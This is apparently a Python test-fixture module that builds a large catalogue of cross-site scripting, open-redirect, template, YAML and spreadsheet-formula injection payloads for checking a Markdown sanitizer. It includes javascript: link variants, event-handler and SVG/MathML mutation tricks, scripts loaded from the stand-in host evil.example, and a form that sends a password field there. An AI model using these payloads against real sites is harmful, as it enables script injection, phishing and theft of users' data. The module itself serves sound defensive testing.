"""Everything that somebody might type so that a page does what they want.

One list for every door: a case is Markdown, or words that a page shows beside it. "CHU" stands for a word of the
case's own: where it is shown, the case was not swallowed. What would come alive calls `alert` or sets `pwned`.
"""

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

OURS = "/pictures/abcdefabcdefabcd-800x600.webp"
EVIL = "evil.example"
TITLED = re.compile(r"""\]\([^)]*["']""")
MOST_BRACKETS = 90  # a text with a hundred is shown as it is written, and would try nothing

FAMILIES = {
    "html": (
        "<script>alert('CHU')</script>",
        f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>CHU",
        "<scr<script>ipt>alert(1)</scr</script>ipt>CHU",
        '<iframe src="javascript:parent.pwned=1">CHU</iframe>',
        '<iframe srcdoc="<script>parent.pwned=1</script>">CHU</iframe>',
        '<object data="data:text/html,<script>alert(1)</script>">CHU</object>',
        f'<embed src="//{EVIL}/x.swf" title="CHU">',
        f'<base href="https://{EVIL}/">CHU',
        f'<meta http-equiv=refresh content="0;url=https://{EVIL}/">CHU',
        f"<link rel=stylesheet href=//{EVIL}/x.css>CHU",
        f'<style>@import "//{EVIL}/x.css";body{{display:none}}</style>CHU',
        f"<form action=https://{EVIL}/><input name=password value=CHU><button>Gửi</button></form>",
        "<button formaction=javascript:alert(1)>CHU</button>",
        "<h1 id=main class=button>CHU</h1>",
        f'<div style="position:fixed;inset:0;background:url(//{EVIL}/a.png)">CHU</div>',
        f'<a href="https://{EVIL}/" class=button target=_blank>CHU</a>',
        "<textarea>CHU</textarea><script>alert(1)</script>",
        "</article></main></body><script>alert(1)</script>CHU",
        f"<frameset onload=alert(1)><frame src=//{EVIL}/>CHU</frameset>",
        f"<portal src=//{EVIL}/>CHU</portal>",
        "<dialog open>CHU<form method=dialog><button>Đóng</button></form></dialog>",
        f'<script type=module>import "//{EVIL}/x.js"</script>CHU',
    ),
    "handlers": (
        "<img src=x onerror=alert(1)>CHU",
        '<img src=x:x onerror="window.pwned=1" alt="CHU">',
        "<body onload=alert(1)>CHU",
        "<details open ontoggle=alert(1)>CHU</details>",
        "<input autofocus onfocus=alert(1) value=CHU>",
        "<video><source onerror=alert(1)>CHU</video>",
        "<audio src=x onerror=alert(1)>CHU</audio>",
        "<marquee onstart=alert(1)>CHU</marquee>",
        "<b onmouseover=alert(1)>CHU</b>",
        '<p oNcLiCk\n=\n"alert(1)">CHU</p>',
        "<a/onclick=alert(1)/href=#>CHU</a>",
        '<img """><script>alert(1)</script>">CHU',
        "<div onanimationstart=alert(1) style=animation:x>CHU</div>",
        "<x contenteditable onblur=alert(1) tabindex=1>CHU</x>",
        "<b popover id=p onbeforetoggle=alert(1)>CHU</b>",
        "<q/oncut=alert(1)>CHU",
    ),
    "links": (
        "[CHU](javascript:alert(1))",
        "[CHU](JaVaScRiPt:alert(1))",
        "[CHU](javascript&#58;alert(1))",
        "[CHU](javascript&colon;alert(1))",
        "[CHU](java\tscript:alert(1))",
        "[CHU](java&#9;script:alert(1))",
        "[CHU](java&NewLine;script:alert(1))",
        "[CHU](java\u00adscript:alert(1))",
        "[CHU](&#1;javascript:alert(1))",
        "[CHU](\x01javascript:alert(1))",
        "[CHU](\u00a0javascript:alert(1))",
        "[CHU](javascript%3Aalert(1))",
        "[CHU](%6aavascript:alert(1))",
        "[CHU](<javascript:alert(1)>)",
        "[CHU](<java script:alert(1)>)",
        "[CHU](&#106;avascript:alert(1))",
        "[CHU](&#x6A;avascript&#x3A;alert(1))",
        "[CHU](\\javascript\\:alert(1))",
        "[CHU](javascript://a.vn/%0aalert(1))",
        "[CHU](data:text/html;base64,PHNjcmlwdD4=)",
        "[CHU](data:text/html,<script>alert(1)</script>)",
        "[CHU](vbscript:msgbox(1))",
        "[CHU](file:///etc/passwd)",
        "[CHU](blob:https://a.vn/x)",
        "[CHU](view-source:https://a.vn)",
        "[CHU](feed:javascript:alert(1))",
        f"[CHU](http://{EVIL}/)",
        f"[CHU](//{EVIL}/a)",
        f"[CHU](/\\{EVIL})",
        f"[CHU](\\\\{EVIL})",
        f"[CHU](&#47;/{EVIL})",
        f"[CHU](/&#9;/{EVIL})",
        f"[CHU](https:{EVIL})",
        f"[CHU](https:\\\\{EVIL})",
        f"[CHU](https://a.vn@{EVIL}/)",
        f"[CHU](https://a.vn\u3002{EVIL})",
        f"[CHU](https&#58;//{EVIL})",
        "[CHU](https://[::1]/)",
        '[CHU](https://a.vn "t" onclick=alert(1))',
        '[CHU](https://a.vn "t\\" onclick=alert(1) x=\\"")',
        '[CHU](https://a.vn"onclick="alert(1))',
        "[CHU](https://a.vn'onclick='alert(1))",
        "[CHU](<https://a.vn onclick=alert(1)>)",
        "[CHU [b](javascript:alert(1))](https://a.vn)",
        f"[![CHU](https://{EVIL}/a.png)](javascript:alert(1))",
    ),
    "hosts": (
        f"[CHU](https://a.vn:443@{EVIL}/)",
        f"[CHU](https://a.vn\\@{EVIL})",
        f"[CHU](https:///{EVIL})",
        f"[CHU](https://a.vn%2f@{EVIL})",
        f"[CHU](https://a.vn&#64;{EVIL})",
        f"[CHU](https://{EVIL}&#47;a.vn)",
        f"[CHU](&#x68;ttps://{EVIL})",
        "[CHU](https://gооgle.example)",
        "[CHU](https://xn--a)",
        "[CHU](https://127.0.0.1/)",
        "[CHU](https://a&#46;vn)",
        f"[https://a.vn CHU](https://{EVIL}/a)",
        "[CHU](mailto:a@b.vn?bcc=c@d.vn)",
        "[CHU](tel:113)",
        "[CHU](/sign-out)",
        "[CHU](#main)",
        "[CHU](sign-out)",
        f"<a@{EVIL}> CHU",
    ),
    "references": (
        "[CHU][CHU]\n\n[CHU]: javascript:alert(1)",
        '[CHU]\n\n[CHU]: javascript:alert(1) "x"',
        "[CHU][]\n\n[CHU]: <data:text/html,<script>alert(1)</script>>",
        '[CHU][CHU]\n\n[CHU]: https://a.vn "t\\" onclick=alert(1) x=\\""',
        "[CHU][CHU]\n\n[CHU]: &#106;avascript:alert(1)",
        f"![CHU][CHU]\n\n[CHU]: https://{EVIL}/a.png",
        f"![CHU]\n\n[CHU]: //{EVIL}{OURS}",
    ),
    "autolinks": (
        "<javascript:alert(1)> CHU",
        '<https://a.vn/"onclick=alert(1)> CHU',
        "<data:text/html,alert(1)> CHU",
        f'<a@{EVIL}"onclick=alert(1)> CHU',
        "<mailto:a@b.vn?body=%3Cscript%3E> CHU",
        f"<https://a.vn@{EVIL}> CHU",
        "https://a.vn/<script>alert(1)</script> CHU",
    ),
    "pictures": (
        f"![CHU](https://{EVIL}/a.png)",
        '![CHU](x "onerror=alert(1)")',
        "![CHU](javascript:alert(1))",
        "![CHU](data:image/svg+xml;base64,PHN2Zz4=)",
        f"![CHU](//{EVIL}{OURS})",
        f"![CHU](https://{EVIL}{OURS})",
        f"![CHU]({OURS}?next=//{EVIL})",
        f"![CHU]({OURS}#x)",
        f"![CHU](/x/..{OURS})",
        f"![CHU]({OURS.upper()})",
        f"![CHU]({OURS.replace('800', '0')})",
        f"![CHU]({OURS.replace('800', '8００')})",
        f"![CHU]({OURS.replace('.webp', '.svg')})",
        f"![CHU]({OURS.replace('/', '&#47;', 1)})",
        f'![CHU" onerror="alert(1)]({OURS})',
        f"![CHU](<{OURS} onerror=alert(1)>)",
        f'![CHU]({OURS} "t\\" onerror=alert(1) x=\\"")',
        f'![CHU]({OURS} "<script>alert(1)</script>")',
        f"![<img src=x onerror=alert(1)> CHU]({OURS})",
        f'<img src="{OURS}" onerror=alert(1)>CHU',
        f'<img src=x srcset="//{EVIL}/a.png 1x">CHU',
    ),
    "attributes": (
        'CHU\n{: onclick="alert(1)" style="color:red"}',
        "### CHU {: #main .button onclick=alert(1)}",
        "### CHU {#said-otp}",
        "**CHU**{onclick=alert(1)}",
        "[CHU](https://a.vn){: target=_blank onclick=alert(1)}",
        "- CHU\n{: onclick=alert(1)}",
        "~~~ {.a #b onclick=alert(1)}\nCHU\n~~~",
    ),
    "footnotes": (
        "CHU[^CHU]\n\n[^CHU]: <script>alert(1)</script>",
        "CHU[^CHU]\n\n[^CHU]: [x](javascript:alert(1))",
        "CHU^[<img src=x onerror=alert(1)>]",
        '*[CHU]: x" onmouseover="alert(1)\n\nCHU',
        "CHU\n: <script>alert(1)</script>",
    ),
    "tables": (
        "| CHU | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | b |",
        "<table background=javascript:alert(1)><td>CHU",
    ),
    "code": (
        "```html onclick=alert(1)\n<script>alert('CHU')</script>\n```",
        '``` "><img src=x onerror=alert(1)>\nCHU\n```',
        "`<script>alert('CHU')</script>`",
        "``<img src=x onerror=alert(1)> CHU``",
        "    <script>alert('CHU')</script>",
        "`CHU\\`<svg onload=alert(1)>`",
    ),
    "blocks": (
        "/// tin-nhan | <img src=x onerror=alert(1)> CHU\n<script>alert(1)</script>\n///",
        '/// tin-nhan | x" onclick="alert(1)\nCHU\n///',
        "/// tin-nhan\n    attrs: {id: said-otp, class: term, srcdoc: '<script>'}\n\nCHU\n///",
        "/// thu-suc | [CHU](javascript:alert(1))?\n<b onmouseover=alert(1)>x</b>\n///",
        "/// thu-suc | <svg onload=alert(1)> CHU\n<details open ontoggle=alert(1)>\n///",
        "/// luu-y | <script>alert(1)</script>\nCHU\n///",
        "/// luu-y\n    attrs: {onclick: 'alert(1)', style: 'color:red', id: main, class: button}\n\nCHU\n///",
        "/// luu-y\n    attrs: !!python/object/apply:os.getcwd []\n\nCHU\n///",
        "/// luu-y\n    attrs: {a: &a x, *a : *a}\n\nCHU\n///",
        "/// tom-tat\n</aside><script>alert(1)</script>CHU\n///",
        "/// da-xay-ra\n- <b onclick=alert(1)>CHU</b>\n- [y](javascript:alert(1))\n///",
        "/// html | script\nCHU alert(1)\n///",
        "/// details | CHU\n    open: true\n\n<img src=x onerror=alert(1)>\n///",
        "/// admonition | CHU\n    type: x onclick=alert(1)\n\nx\n///",
        f"/// noi-voi-ba-con\n![CHU](https://{EVIL}/a.png)\n///",
    ),
    "marks": (
        "==<script>alert(1)</script> CHU==",
        "x^<img src=x onerror=alert(1)>CHU^",
        "==[CHU](javascript:alert(1))==^1^",
        "x^[CHU](javascript:alert(1))^",
        '=="CHU" onclick=alert(1)==^"2"^',
        "**[CHU](javascript:alert(1))**",
        "*<b onclick=alert(1)>CHU</b>*",
        "### <img src=x onerror=alert(1)> CHU",
        "> <svg onload=alert(1)> CHU",
        "1. <svg onload=alert(1)>\n\n   > - CHU <b onclick=alert(1)>",
        "CHU <b onclick=alert(1)>\n---",
    ),
    "entities": (
        "&lt;script&gt;alert(1)&lt;/script&gt; CHU",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; CHU",
        "&#60;script&#62;alert(1)&#60;/script&#62; CHU",
        "&#x3c;img src=x onerror=alert(1)&#x3e; CHU",
        "&lt;img src=x onerror=alert(1)&gt; CHU",
        "&quot;&gt;&lt;svg onload=alert(1)&gt; CHU",
        "%3Cscript%3Ealert(1)%3C/script%3E CHU",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e CHU",
        "\\<script>alert(1)\\</script> CHU",
        "＜script＞alert(1)＜/script＞ CHU",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4- CHU",
        "&NotReal;&#0;&#xD800;&#x11FFFF; CHU",
    ),
    "drawings": (
        "<svg onload=alert(1)>CHU",
        "<svg><script>alert(1)</script>CHU</svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text>CHU</text></a></svg>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>CHU",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">CHU</svg>',
        "<svg><foreignObject><iframe src=javascript:parent.pwned=1></foreignObject>CHU</svg>",
        "<svg><a><set attributeName=href to=javascript:alert(1)></set><text>CHU</text></a></svg>",
        '<math href="javascript:alert(1)">CHU</math>',
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>CHU",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CHU</maction></math>",
    ),
    "mutations": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">CHU',
        "<template><script>alert(1)</script>CHU</template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)>CHU</template>",
        "<!--><img src=x onerror=alert(1)>-->CHU",
        "<!-- --!><script>alert(1)</script>CHU",
        "<!-- CHU",
        "<![CDATA[<script>alert(1)</script>]]>CHU",
        '<?xml version="1.0"?><?php echo 1 ?>CHU',
        "<!DOCTYPE html><script>alert(1)</script>CHU",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">CHU',
        '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><a id="</textarea><img onerror=alert(1)>">CHU',
        "<xmp><script>alert(1)</script></xmp>CHU",
        "<title><img src=x onerror=alert(1)></title>CHU",
        "<select><template><img src=x onerror=alert(1)></template>CHU</select>",
        "<listing><img src=x onerror=alert(1)></listing>CHU",
        "<plaintext>CHU<script>alert(1)</script>",
        "\x02wzxhzdk:0\x03<script>alert(1)</script>CHU",
        "\x02klzzwxh:0000\x03CHU",
        "\x02amp\x03lt;script\x02amp\x03gt;alert(1) CHU",
        "\ue000<script>alert(1)</script>\ue000CHU",
    ),
    "terms": (
        "Mã OTP<script>alert(1)</script> CHU",
        "<b onclick=alert(1)>OTP</b> CHU",
        "[OTP CHU](javascript:alert(1))",
        'OTP" onmouseover="alert(1) CHU',
        "### OTP<img src=x onerror=alert(1)> CHU",
    ),
    "signs": (
        "<scr\x00ipt>alert(1)</scr\x00ipt>CHU",
        "<\x00script>alert(1)</script>CHU",
        "[CHU](java\x00script:alert(1))",
        "\u202e<script>alert(1)</script>\u202cCHU",
        "\u2066[CHU](javascript:alert(1))\u2069",
        "<img\x0bsrc=x\x0conerror=alert(1)>CHU",
        "\ufeff<script>alert(1)</script>CHU",
        "<ſcript>alert(1)</ſcript>CHU",
        "<script\u2028>alert(1)</script>CHU",
        "<img src=x\u0085onerror=alert(1)>CHU",
    ),
}
# Each alone in its text: a text that nests without end is shown as it is written.
ENDLESS = tuple(f"{mark * 700}CHU <img src=x onerror=alert(1)>" for mark in ("- ", "1. ", "> ", "[", "*", "![", "<b>"))
# What is short enough for a name, a title or a reason: no Markdown there, but HTML, templates and tables of numbers.
NAMES = (
    "<script>alert(1)</script>CHU",
    '"><img src=x onerror=alert(1)>CHU',
    "'onfocus=alert(1) autofocus x='CHU",
    "</title><script>alert(1)</script>CHU",
    "</textarea><svg onload=alert(1)>CHU",
    "{{ 7*7 }}{% raw %}CHU",
    "%(title)s %s {0} CHU",
    '=HYPERLINK("http://evil.example","CHU")',
    "@SUM(1+1)*cmd|' /C calc'!A0 CHU",
    "--><script>alert(1)</script>CHU",
    "${7*7}#{7*7}<%= 7*7 %>CHU",
    "&lt;img src=x onerror=alert(1)&gt;CHU",
)


@dataclass(frozen=True)
class Case:
    """One trick. `word` is shown wherever the case is, `mark` stands before it."""

    name: str
    text: str
    word: str

    @property
    def mark(self) -> str:
        return self.word.replace("chu", "mục ")

    @property
    def block(self) -> str:
        """The case after its mark, as a text of its own lines."""
        return f"{self.mark}:\n\n{self.text}"

    @property
    def line(self) -> str:
        """The same in one line."""
        return f"{self.mark}: {' '.join(self.text.split())}"


def _cases() -> Iterator[Case]:
    number = 0
    for family, texts in {**FAMILIES, "endless": ENDLESS, "names": NAMES}.items():
        for text in texts:
            number += 1
            word = f"chu{number:03d}"
            yield Case(f"{family} {number}: {text[:50]!r}", text.replace("CHU", word), word)


EVERY = tuple(_cases())
MARKDOWN = tuple(case for case in EVERY if not case.name.startswith(("endless", "names")))
DEEP = tuple(case for case in EVERY if case.name.startswith("endless"))
SHORT = tuple(case for case in EVERY if case.name.startswith("names"))


@dataclass(frozen=True)
class Text:
    """Cases in one text."""

    words: str
    cases: tuple[Case, ...]


def texts(cases: Iterable[Case] = MARKDOWN, longest: int = 30_000) -> list[Text]:
    """The cases in as few texts of blocks as hold them."""
    return [Text("\n\n".join(case.block for case in some), some) for some in _portions(cases, longest)]


def lines(cases: Iterable[Case] = MARKDOWN, longest: int = 30_000) -> list[Text]:
    """The cases in as few lines as hold them, without those that would take their neighbours for a link's title."""
    cases = [case for case in cases if not TITLED.search(case.text)]
    return [Text(" ".join(case.line for case in some), some) for some in _portions(cases, longest)]


def _portions(cases: Iterable[Case], longest: int) -> Iterator[tuple[Case, ...]]:
    portion: list[Case] = []
    for case in cases:
        ahead = [*portion, case]
        signs = sum(len(one.block) + 2 for one in ahead)
        if portion and (signs > longest or sum(one.block.count("[") for one in ahead) > MOST_BRACKETS):
            yield tuple(portion)
            portion = []
        portion.append(case)
    yield tuple(portion)
